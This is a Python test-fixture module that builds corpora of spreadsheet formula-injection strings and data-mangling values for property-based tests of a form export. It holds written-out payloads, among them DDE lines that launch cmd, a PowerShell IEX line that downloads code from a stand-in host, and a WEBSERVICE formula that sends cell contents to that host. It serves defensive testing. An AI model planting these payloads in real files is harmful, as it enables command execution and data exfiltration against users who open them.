"""Text that means harm to a spreadsheet, or that one changes: DOMAIN.md 6.4 and 10.4.

What the corpora hold is what a fan can write into a form. `FORMULAS` must not run, `CHANGED` must
not change, and `TEXTS` are both and whatever else has broken a file before.
"""

from itertools import product
from typing import Final

from hypothesis import strategies as st

TRIGGERS: Final = "=+-@\uff1d\uff0b\uff0d\uff20"
CONTROL_TRIGGERS: Final = "\t\r\n\x00"
HIDING: Final = [
    "",
    " ",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u2060",
    "\u00ad",
    "\u180e",
    "\u202e",
    " \u200b\ufeff ",
]
CALLS: Final = ["1+1", 'HYPERLINK("https://x.example.com","win")', "cmd|' /C calc'!A0", "SUM(1)"]

CORPUS: Final = ["".join(parts) for parts in product(HIDING, TRIGGERS, [*CALLS, ""])]
"""Each trigger behind whatever a naive test of the first character does not look through."""

FORMULAS: Final = [
    *("".join(parts) for parts in product(HIDING, TRIGGERS, CALLS)),
    # A control first: tab, CR and LF are triggers themselves, NUL hides one (ASVS 1.2.10).
    *("".join(parts) for parts in product(CONTROL_TRIGGERS, "=+-@", CALLS)),
    # Quotes and separators that would end the cell and begin another, in each dialect.
    *(
        f"{before}{delimiter}{after}=1+1"
        for before, delimiter, after in product(["", '"', "a", 'a"'], [",", ";", "\t"], ["", '"'])
    ),
    *(f"{end}{quote}=1+1" for end, quote in product(["a\r\n", "a\n", "a\r", '"\r\n'], ["", '"'])),
    # What looks guarded already, and what a spreadsheet has been seen to run.
    "'=1+1",
    "''=1+1",
    "'\t=1+1",
    '"=1+1"',
    '="01201"',
    '="=1+1"',
    '=WEBSERVICE("https://x.example.com/?"&A1)',
    '=IMPORTXML("https://x.example.com","//a")',
    '=DDE("cmd";"/C calc";"")',
    "=cmd|'/C powershell IEX(wget x.example.com)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "+1******0132",
    "-1",
    "{=1+1}",
    "=A1048576",
    "=1/0",
    "=\u202e1+1",
    "=RAND()",
]
CHANGED: Final = [
    "12345678901234567890",
    "00000000000000000042",
    "01201",
    "007",
    "MAR1",
    "SEP2",
    "1E10",
    "2E5",
    "1e-7",
    "1/2",
    "3-4",
    "12:30",
    "2026-03-01",
    "01.02.2026",
    "TRUE",
    "false",
    "1,5",
    "1.5",
    "50%",
    "$5",
    "0x1F",
    "1234567890123456",
    "#N/A",
    "#REF!",
    "1 000",
    "\u0661\u0662\u0663",
]
OTHERS: Final = [
    "'tis",
    "''",
    "'",
    "O'Neil",
    'Ann "Annie"',
    '"',
    '""',
    ",",
    ";",
    "|",
    "a;b",
    "a,b",
    "\\",
    "_x0041_",
    "_x005F_x0041_",
    "_x000D_",
    "_x000d_",
    "&lt;&amp;<b>]]>",
    "\u05e9\u05dc\u05d5\u05dd",
    "\u0645\u0631\u062d\u0628\u0627 =1",
    "\U0001f469\u200d\U0001f467",
    "\ufffe\uffff",
    "null",
    "None",
    "N/A",
    "a\tb",
    "a\x0bb",
    "a\x85b",
    "a\u2028b",
]
TEXTS: Final = [*dict.fromkeys([*FORMULAS, *CHANGED, *OTHERS])]

# Text that is near a payload: what a random choice of letters would never hit.
HOSTILE: Final = st.text(
    st.sampled_from(f"'{TRIGGERS}{CONTROL_TRIGGERS}{''.join(HIDING)}ab1\",;|\ud83d\u05d0"),
    max_size=8,
)
